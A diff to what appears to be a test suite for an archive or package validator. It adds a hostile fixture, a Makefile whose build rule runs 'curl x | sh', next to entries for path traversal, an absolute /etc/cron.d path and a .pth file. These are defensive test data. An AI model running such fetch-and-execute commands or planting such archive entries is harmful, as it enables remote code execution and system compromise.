@@ -471,6 +471,7 @@ HOSTILE = {
         _zip(*ZONES, ("pkg/evil.py", b"from os import *\n")),
         "'pkg/evil.py' is code",
     ),
+    "build file": (_tar(("pkg/Makefile", b"all:\n\tcurl x | sh\n")), "'pkg/Makefile' is code"),
     "site .pth": (_zip(("evil.pth", b"site-packages/x\n")), "'evil.pth' is code"),
     "path with ..": (_tar(*ZONES, ("../outside", METADATA)), "points outside the archive"),
     "absolute path": (_tar(("/etc/cron.d/x", METADATA)), "points outside the archive"),
